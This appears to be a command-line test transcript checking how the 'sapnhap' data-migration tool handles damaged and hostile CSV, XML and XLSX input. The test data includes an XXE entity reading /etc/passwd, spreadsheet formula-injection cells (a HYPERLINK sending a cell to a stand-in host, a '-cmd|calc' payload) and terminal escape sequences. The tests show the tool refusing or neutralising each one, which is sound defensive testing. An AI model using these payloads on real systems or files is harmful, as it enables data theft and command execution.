# Hostile and damaged input (part of "steps a migration team can trust"): nothing is lost without a
# word, every refusal names the file and line, exits 3 and leaves the database byte for byte as
# it was. Set-up: the samples' registries and the Bình Phước catalog.
$ sapnhap units import samples/units/conversion-2025.csv >/dev/null && sapnhap agencies import samples/agencies/binhphuoc.csv --province 70 >/dev/null && sapnhap agencies import samples/agencies/dongnai.xml --province 75 >/dev/null && sapnhap catalog import samples/catalogs/binhphuoc.csv --province 70 >/dev/null && cp sapnhap.db before.db

# A NUL byte inside a cell would end the C string there (000.00.01\0H10 stored as 000.00.01):
# refused with its line by every CSV reader.
$ printf 'code,name,kind\n000.00.01\000H10,Văn phòng,department\n' > nul.csv; sapnhap agencies import nul.csv --province 70 --force; echo "[status $?]"; cmp -s before.db sapnhap.db && echo unchanged
[status 3]
unchanged
! sapnhap: error: nul.csv:2: a NUL byte inside the text (the file is damaged, or is not text): it would cut the value short; remove it
$ { head -n 2 samples/catalogs/binhphuoc.csv; printf '1.000894,1.000894.000.00.00.H10,Thủ tục\000 đăng ký kết hôn,G15-TP07,Hộ tịch,Cấp Xã,1,ngày làm việc,Không,một phần,không,Luật,000.50.31.H10\n'; } > nul-cat.csv; sapnhap catalog import nul-cat.csv --province 70 --force; echo "[status $?]"; cmp -s before.db sapnhap.db && echo unchanged
[status 3]
unchanged
! sapnhap: error: nul-cat.csv:3: a NUL byte inside the text (the file is damaged, or is not text): it would cut the value short; remove it
$ { head -n 2 samples/dossiers/binhphuoc.csv; printf '000.00.32.H10-250624-0042\000X,1.001612,000.00.32.H10,25198,,,,\n'; } > nul-dos.csv; sapnhap dossiers import nul-dos.csv --province 70; echo "[status $?]"; cmp -s before.db sapnhap.db && echo unchanged
[status 3]
unchanged
! sapnhap: error: nul-dos.csv:3: a NUL byte inside the text (the file is damaged, or is not text): it would cut the value short; remove it
$ { head -n 12 samples/units/dongnai-2026.csv; printf '\000\n'; } > nul-units.csv; sapnhap units import nul-units.csv --event bad --kind changes --effective 2026-05-01; echo "[status $?]"; cmp -s before.db sapnhap.db && echo unchanged
[status 3]
unchanged
! sapnhap: error: nul-units.csv:7: a NUL byte inside the text (the file is damaged, or is not text): it would cut the value short; remove it

# The same agency code in both notations is one code written twice.
$ printf 'code,name,kind\n000.00.16.H11,Sở Xây dựng,department\nH11.16,Sở Xây dựng,department\n' > both.csv; sapnhap agencies import both.csv --province 60; echo "[status $?]"; cmp -s before.db sapnhap.db && echo unchanged
[status 3]
unchanged
! sapnhap: error: both.csv:3: code H11.16 is listed twice (first at both.csv:2, written 000.00.16.H11)
$ printf 'code,name,kind\nH10.01,Văn phòng,department\n' > other-province.csv; sapnhap agencies import other-province.csv --province 60; echo "[status $?]"; cmp -s before.db sapnhap.db && echo unchanged
[status 3]
unchanged
! sapnhap: error: other-province.csv:2: agency code H10.01 belongs to province 70 (Tỉnh Bình Phước, level-1 code H10), not to province 60 given by --province

# A binding (or a dossier's agency) written in the other notation is the same agency, stored as
# the registry writes it.
$ sed '2s/000\.50\.31\.H10:online;/H10.31.50:online;/' samples/catalogs/binhphuoc.csv > left.csv; sapnhap --db left.db units import samples/units/conversion-2025.csv >/dev/null; sapnhap --db left.db agencies import samples/agencies/binhphuoc.csv --province 70 >/dev/null; sapnhap --db left.db catalog import left.csv --province 70; sqlite3 left.db "SELECT agency_code, online FROM binding WHERE national_code = '1.001193' ORDER BY id LIMIT 1"
imported catalog of province 70 from left.csv: procedures=41 bindings=158
000.50.31.H10|1
$ printf 'dossier_code,national_code,agency_code\n000.00.32.H10-250624-0041,1.001612,H10.32\n' > left-dossiers.csv; sapnhap --db left.db dossiers import left-dossiers.csv --province 70; sqlite3 left.db "SELECT code, agency_code FROM dossier"
imported dossiers of province 70 from left-dossiers.csv: dossiers=1
000.00.32.H10-250624-0041|000.00.32.H10

# Characters XML 1.0 cannot carry would make 'export --format xml' not well-formed: refused at
# import with their line (CSV, XML and XLSX alike), and echoed escaped.
$ printf 'code,name,kind\n000.00.16.H11,Sở Xây dựng\357\277\276,department\n' > fffe.csv; sapnhap agencies import fffe.csv --province 60; echo "[status $?]"; cmp -s before.db sapnhap.db && echo unchanged
[status 3]
unchanged
! sapnhap: error: fffe.csv:2: non-character U+FFFE is not allowed in text (XML cannot carry it); remove it
$ { head -n 2 samples/catalogs/binhphuoc.csv; printf '1.000894,1.000894.000.00.00.H10,Kết hôn\357\277\277,G15-TP07,Hộ tịch,Cấp Xã,1,ngày làm việc,Không,một phần,không,Luật,000.50.31.H10\n'; } > ffff.csv; sapnhap catalog import ffff.csv --province 70 --force; echo "[status $?]"; cmp -s before.db sapnhap.db && echo unchanged
[status 3]
unchanged
! sapnhap: error: ffff.csv:3: non-character U+FFFF is not allowed in text (XML cannot carry it); remove it
$ printf 'code,name,kind\n000.00.16.H11,"Sở\nXây\033[2J dựng",department\n' > esc.csv; sapnhap agencies import esc.csv --province 60; echo "[status $?]"; cmp -s before.db sapnhap.db && echo unchanged
[status 3]
unchanged
! sapnhap: error: esc.csv:3: control character U+001B is not allowed in text (XML cannot carry it); remove it
$ iconv -f UTF-8 -t CP1258 samples/agencies/binhphuoc.csv | sed '2s/,province-committee,/,province\x01committee,/' > ctl-cp1258.csv; sapnhap agencies import ctl-cp1258.csv --province 70 --force; echo "[status $?]"; cmp -s before.db sapnhap.db && echo unchanged
[status 3]
unchanged
! sapnhap: error: ctl-cp1258.csv:2: control character U+0001 is not allowed in text (XML cannot carry it); remove it
$ sed '0,/<\/name>/s|</name>|\&#xFFFE;</name>|' samples/agencies/dongnai.xml > fffe.xml; grep -c FFFE fffe.xml; sapnhap agencies import fffe.xml --province 75 --force; echo "[status $?]"; cmp -s before.db sapnhap.db && echo unchanged
1
[status 3]
unchanged
! sapnhap: error: fffe.xml:4: xmlParseCharRef: invalid xmlChar value 65534
$ mkdir -p x && cp -r data/xlsx-sample/. x/ && sed -i 's|<t>Mã Xã cũ</t>|<t>Mã Xã cũ\&#1;</t>|' x/xl/sharedStrings.xml && (cd x && zip -qX -r ../ctl.xlsx .); sapnhap units import ctl.xlsx --event bad --effective 2025-08-01; echo "[status $?]"; cmp -s before.db sapnhap.db && echo unchanged
[status 3]
unchanged
! sapnhap: error: 'ctl.xlsx': xl/sharedStrings.xml:9: xmlParseCharRef: invalid xmlChar value 1

# A C1 control in a value that is echoed (an unknown kind) is shown escaped, not sent to the terminal.
$ printf 'code,name,kind\n000.00.16.H11,Sở Xây dựng,depart\302\233ment\n' > c1.csv; sapnhap agencies import c1.csv --province 60; echo "[status $?]"
[status 3]
! sapnhap: error: c1.csv:2: kind 'depart\u009bment' of 000.00.16.H11 is not one of province-committee, province-council, department, department-unit, district-committee, district-office, commune-committee, service-unit, other

# Cells a spreadsheet would run as formulas are neutralised in every CSV we write, and read back
# exactly (export -> diff is the round trip).
$ printf 'code,name,kind,phone\n000.00.00.H11,=HYPERLINK("http://x.example/?"&A1;"bấm"),province-committee,+84 271 3879 456\n000.00.01.H11,@SUM(1+1),department,-\n000.00.02.H11,+Thuế,department,\n' > formula.csv; sapnhap --db f.db units import samples/units/conversion-2025.csv >/dev/null; sapnhap --db f.db agencies import formula.csv --province 60 && sapnhap --db f.db agencies list --province 60 --format csv
imported agency registry of province 60 from formula.csv: agencies=3 nonconforming=0
code,name,kind,parent_code,unit_code,status,problem
000.00.00.H11,"'=HYPERLINK(""http://x.example/?""&A1;""bấm"")",province-committee,,,active,
000.00.01.H11,'@SUM(1+1),department,,,active,
000.00.02.H11,'+Thuế,department,,,active,
$ printf 'national_code,name,levels,agencies\n1.001193,=1+2,Cấp Xã,\n' > f-before.csv; printf 'national_code,name,levels,agencies\n1.001193,-cmd|calc,Cấp Xã,\n' > f-after.csv; sapnhap diff f-before.csv f-after.csv --format tdiff; sapnhap diff f-before.csv f-after.csv --format csv
@@,entity,key,field,value
'->,procedure,1.001193,name,'=1+2->-cmd|calc
entity,kind,key,name,field,before,after,decision,reason
procedure,changed,1.001193,'-cmd|calc,name,'=1+2,'-cmd|calc,,

# UTF-16 with a byte-order mark (Excel's "Unicode text") and ';'-separated CSV (Excel's "CSV" on
# a Vietnamese-locale Windows, with or without its sep=; line) are read like the others.
$ iconv -f UTF-8 -t UTF-16 samples/agencies/binhphuoc.csv > utf16.csv; head -c 2 utf16.csv | od -An -tx1; sapnhap --db u16.db units import samples/units/conversion-2025.csv >/dev/null; sapnhap --db u16.db agencies import utf16.csv --province 70
 ff fe
imported agency registry of province 70 from utf16.csv: agencies=67 nonconforming=1
$ { printf 'sep=;\r\n'; sed 's/,/;/g' samples/units/conversion-2025.csv | iconv -f UTF-8 -t CP1258; } > semi.csv; sapnhap --db semi.db units import semi.csv; sapnhap --db comma.db units import samples/units/conversion-2025.csv > /dev/null; Q='SELECT level,code,name,parent_code FROM unit ORDER BY 1,2'; sqlite3 semi.db "$Q" > a.txt; sqlite3 comma.db "$Q" > b.txt; cmp a.txt b.txt && echo same registry
imported event 'reform-2025' (conversion, effective 2025-07-01) from semi.csv [cp1258]: rows=43 links=39 old_communes=36 new_communes=25 new_provinces=4 padded_codes=2
same registry
$ sed 's/,/;/g' samples/agencies/binhphuoc.csv | head -n 3 > semi-ag.csv; sapnhap --db semi.db agencies import semi-ag.csv --province 70 --dry-run
would import agency registry of province 70 from semi-ag.csv: agencies=2 nonconforming=0
$ { printf 'sep=;\n'; printf 'code;name;kind\n000.00.00.H10;Ủy ban;province-committee\n000.00.01.H10\000;Văn phòng;department\n'; } > semi-nul.csv; sapnhap --db semi.db agencies import semi-nul.csv --province 70; echo "[status $?]"
[status 3]
! sapnhap: error: semi-nul.csv:4: a NUL byte inside the text (the file is damaged, or is not text): it would cut the value short; remove it

# An empty file is named.
$ : > empty.csv; sapnhap agencies import empty.csv --province 60; echo "[status $?]"; sapnhap catalog import empty.csv --province 75; echo "[status $?]"; sapnhap dossiers import empty.csv --province 70; echo "[status $?]"; cmp -s before.db sapnhap.db && echo unchanged
[status 3]
[status 3]
[status 3]
unchanged
! sapnhap: error: empty.csv: the file is empty (no header row)
! sapnhap: error: empty.csv: the file is empty (no header row)
! sapnhap: error: empty.csv: the file is empty (no header row)

# A DOCTYPE after a comment or a processing instruction holding '<' is still found and refused.
$ printf '<?xml version="1.0"?>\n<!-- a <b> c -->\n<?note <x?>\n<!DOCTYPE agencies [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n<agencies xmlns="urn:sapnhap:agencies:1"><agency><code>&e;</code></agency></agencies>\n' > doctype.xml; sapnhap agencies import doctype.xml --province 60; echo "[status $?]"; cmp -s before.db sapnhap.db && echo unchanged
[status 3]
unchanged
! sapnhap: error: doctype.xml:1: DOCTYPE refused (our XML formats never declare one; entities could be an attack)

# Usage errors say what is wrong: exit 2.
$ sapnhap queue --step bogus
! sapnhap: error: --step must be recode, reassign or dossiers import, not 'bogus'
! try 'sapnhap queue --help'
[exit 2]
$ sapnhap validate --format
! sapnhap: error: option '--format' needs a value
! try 'sapnhap validate --help'
[exit 2]
$ sapnhap validate --format=yaml
! sapnhap: error: --format must be text, csv or json, not 'yaml'
! try 'sapnhap validate --help'
[exit 2]
$ sapnhap queue --format=csv --step=recode
step,subject,field,reason,detail
$ sapnhap status --dry-run=yes
! sapnhap: error: unknown option '--dry-run'
! try 'sapnhap status --help'
[exit 2]
$ sapnhap status extra
! sapnhap: error: unexpected argument 'extra'
! try 'sapnhap status --help'
[exit 2]
$ sapnhap agencies import samples/agencies/binhphuoc.csv --province
! sapnhap: error: option '--province' needs a value
! try 'sapnhap agencies import --help'
[exit 2]
$ sapnhap --db
! sapnhap: error: option '--db' needs a value (the working database)
! try 'sapnhap --help'
[exit 2]
$ sapnhap agencies import samples/agencies/binhphuoc.csv --province 70 --force=yes
! sapnhap: error: option '--force' takes no value
! try 'sapnhap agencies import --help'
[exit 2]
$ sapnhap validate --nonsense
! sapnhap: error: unknown option '--nonsense'
! try 'sapnhap validate --help'
[exit 2]

# The database: missing, a folder, not a database, read-only, disk full. What happened and what
# to do; no SQL (SAPNHAP_TRACE=1 adds it on a trace line).
$ sapnhap --db none.db status
! sapnhap: error: no working database 'none.db' (no such file): start one with 'sapnhap units import', or name yours with --db FILE
[exit 4]
$ mkdir -p folder; sapnhap --db folder units import samples/units/conversion-2025.csv
! sapnhap: error: 'folder' is a folder, not a database file; give a file with --db (e.g. --db folder/sapnhap.db)
[exit 4]
$ echo 'not a database' > text.db; sapnhap --db text.db status; sapnhap --db text.db agencies import samples/agencies/binhphuoc.csv --province 70; echo "[status $?]"; cat text.db
[status 4]
not a database
! sapnhap: error: 'text.db' is not a sapnhap database (not an SQLite file); give the working database with --db, or the name of a new file to start one
! sapnhap: error: 'text.db' is not a sapnhap database (not an SQLite file); give the working database with --db, or the name of a new file to start one
$ mkdir rodir; cp before.db rodir/ro.db; chmod 444 rodir/ro.db; chmod 777 rodir; chmod 755 .; S=$(readlink -f "$(command -v sapnhap)"); if [ "$(id -u)" = 0 ]; then run() { setpriv --reuid=65534 --regid=65534 --clear-groups "$@"; }; else run() { "$@"; }; fi; run "$S" --db rodir/ro.db agencies import samples/agencies/dongnai.xml --province 75 --force; echo "[status $?]"; cmp -s before.db rodir/ro.db && echo unchanged
[status 4]
unchanged
! sapnhap: error: cannot write 'rodir/ro.db': the file is read-only; make it writable (chmod u+w), or work on a writable copy with --db COPY
$ cp before.db full.db; blocks=16; sh -c "trap '' XFSZ; ulimit -f $blocks; exec sapnhap --db full.db catalog import samples/catalogs/dongnai.xml --province 75"; echo "[status $?]"; cmp -s before.db full.db && echo unchanged
[status 4]
unchanged
! sapnhap: error: cannot write 'full.db': the file size limit is reached (ulimit -f); raise it and run the step again (the database keeps what it had before the step)
$ cp before.db full.db; blocks=16; SAPNHAP_TRACE=1 sh -c "trap '' XFSZ; ulimit -f $blocks; exec sapnhap --db full.db catalog import samples/catalogs/dongnai.xml --province 75" 2>&1 | grep -c 'trace: .*in: '
1
